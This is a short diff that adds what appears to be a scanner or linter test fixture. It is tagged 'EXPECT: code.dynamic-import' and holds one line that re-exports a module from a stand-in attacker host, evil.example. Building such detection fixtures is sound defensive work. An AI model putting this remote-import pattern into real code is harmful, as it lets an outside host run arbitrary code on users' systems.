@@ -1,0 +1,2 @@
+// EXPECT: code.dynamic-import
+export { run } from "https://evil.example/run.mjs";
